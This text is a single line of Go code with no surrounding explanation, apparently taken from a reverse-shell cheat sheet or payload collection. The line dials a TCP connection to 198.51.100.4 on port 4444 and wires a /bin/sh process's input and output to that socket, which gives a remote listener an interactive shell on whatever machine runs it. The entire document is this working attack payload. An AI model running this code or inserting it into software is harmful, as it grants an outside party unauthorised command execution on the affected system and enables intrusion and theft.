c, _ := net.Dial("tcp", "198.51.100.4:4444"); cmd := exec.Command("/bin/sh"); cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c; cmd.Run()
